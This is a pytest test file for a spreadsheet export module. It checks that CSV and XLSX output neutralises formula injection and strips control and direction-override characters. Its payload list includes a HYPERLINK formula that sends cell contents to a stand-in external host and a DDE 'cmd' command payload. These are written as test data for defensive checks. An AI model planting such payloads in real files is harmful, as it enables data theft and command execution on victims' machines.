import csv
import io
import re
from datetime import date, datetime
from pathlib import Path

import pytest
from openpyxl import load_workbook

from contact.spreadsheets import LONGEST, plain, without_formulas, write_csv, write_xlsx
from tests.hostile_texts import hostile_texts

CORPUS = Path(__file__).parents[3] / "shared" / "corpus"
FORMULAS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1)",
    '=HYPERLINK("https://elsewhere.example/?"&A1,"press")',
    "=cmd|' /C calc'!A0",
    "  =1",
    "\t=1",
    "\r=1",
    "\n=1",
    "\u00a0=1",
    "\u200b=1",
    "\ufeff=1",
    "\u202e=1",
    "\x00=1",
    '"=1"',
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "﹦1",
    "−1",
    "\tword",
    "\rword",
    "a;=1",
    "a, =1",
    "a\t=1",
    "a|=1",
    "a\n=1",
    'a";=1',
    "a,;=1",
    "a\r\n\u200b =1",
]


def hostile():
    """Return texts that try to be formulas, scripts, or something else than they look."""
    texts = FORMULAS + hostile_texts()
    if CORPUS.is_dir():
        texts += (CORPUS / "csv" / "patt_csv_injection.txt").read_text().splitlines()
        texts += (CORPUS / "headers" / "patt_crlf.txt").read_text().splitlines()
    return texts


def as_csv(rows):
    file = io.BytesIO()
    write_csv(file, ["one", "two"], rows)
    return file.getvalue()


def as_sheet(rows):
    file = io.BytesIO()
    write_xlsx(file, ["one", "two"], rows)
    return load_workbook(file).active


class TestPlain:
    @pytest.mark.parametrize(
        ("text", "kept"),
        [
            ("a\x00b\x07c\x1b", "abc"),
            ("a\r\nb\rc\u2028d\x85e", "a\nb\nc\nd\ne"),
            ("\u202egnp.exe\u202c \u2066x\u2069 \u200f", "gnp.exe x "),
            ("\ud800x\ufffe\uffff", "x"),
            ("Één café €10 💧 שלום", "Één café €10 💧 שלום"),
            ("x" * 40_000, "x" * LONGEST),
        ],
    )
    def test_what_no_cell_holds_or_shows_goes(self, text, kept):
        assert plain(text) == kept


class TestFormulas:
    @pytest.mark.parametrize("text", FORMULAS)
    def test_each_is_marked(self, text):
        guarded = without_formulas(plain(text))
        assert guarded != plain(text)
        assert guarded.replace("'", "") == plain(text).replace("'", "")

    @pytest.mark.parametrize("text", ["", "word", "a=b", "a-b", "1-2", "me@example.org", "10 + 10", "well - indeed", "e-mail", "a (-1)", "x;y"])
    def test_what_is_none_stays(self, text):
        assert without_formulas(text) == text

    def test_what_begins_with_one_begins_with_an_apostrophe(self):
        assert [without_formulas(text)[0] for text in ("=1", "  +1", "－1", '"@x')] == ["'"] * 4

    def test_no_program_sees_one_whatever_it_parts_a_line_by(self):
        for text in hostile():
            guarded = without_formulas(plain(text))
            for cell in re.split(r"[,;|\t\n]", guarded):
                begins = cell.strip('"\u00a0\u00ad\u180e\u200b\u200c\u200d\u2060\u2061\u2062\u2063\u2064\ufeff \x0b\x0c\x1c\x1d\x1e\x1f\u2000\u3000')
                assert begins[:1] not in {"=", "+", "-", "@", "＝", "＋", "－", "＠", "−"}, (text, guarded)


class TestCsv:
    def test_spreadsheets_know_its_letters(self):
        content = as_csv([["Één", 1]])
        assert content == '\ufeff"one","two"\r\n"Één","1"\r\n'.encode()

    def test_dates_sort_and_nothing_is_empty(self):
        content = as_csv([[datetime(2026, 11, 25, 9, 5), date(2026, 1, 2)], [None, ""]]).decode("utf-8-sig")
        assert list(csv.reader(io.StringIO(content, newline="")))[1:] == [["2026-11-25 09:05", "2026-01-02"], ["", ""]]

    def test_hostile_texts_stay_in_their_cells(self):
        texts = hostile()
        content = as_csv([[text, "end"] for text in texts]).decode("utf-8-sig")
        rows = list(csv.reader(io.StringIO(content, newline="")))[1:]
        assert [row[1] for row in rows] == ["end"] * len(texts)
        assert [row[0].replace("'", "") for row in rows] == [plain(text).replace("'", "") for text in texts]


class TestXlsx:
    def test_hostile_texts_are_texts(self):
        texts = [*hostile(), "#N/A", "#REF!", "https://elsewhere.example/", "mailto:x@example.org", "TRUE", "1", "2026-11-25", "_x0041_"]
        sheet = as_sheet([[text, "end"] for text in texts])
        rows = list(sheet.iter_rows(min_row=2))
        assert [row[1].value for row in rows] == ["end"] * len(texts)
        assert [row[0].value or "" for row in rows] == [plain(text) for text in texts]
        assert {row[0].data_type for row in rows if row[0].value} == {"s"}
        assert [row[0].coordinate for row in rows if row[0].hyperlink] == []

    def test_what_would_become_a_formula_when_it_is_edited_is_set_as_text(self):
        sheet = as_sheet([["=1", "word"], [" ＝1", ""]])
        assert [[cell.number_format for cell in row] for row in sheet.iter_rows(min_row=2)] == [["@", "General"], ["@", "General"]]

    def test_dates_are_dates(self):
        sheet = as_sheet([[datetime(2026, 11, 25, 9, 5), date(2026, 1, 2)]])
        assert [(cell.value, cell.is_date) for cell in sheet[2]] == [(datetime(2026, 11, 25, 9, 5), True), (datetime(2026, 1, 2), True)]

    def test_the_headers_stay_in_sight(self):
        sheet = as_sheet([])
        assert ([cell.value for cell in sheet[1]], sheet.freeze_panes) == (["one", "two"], "A2")
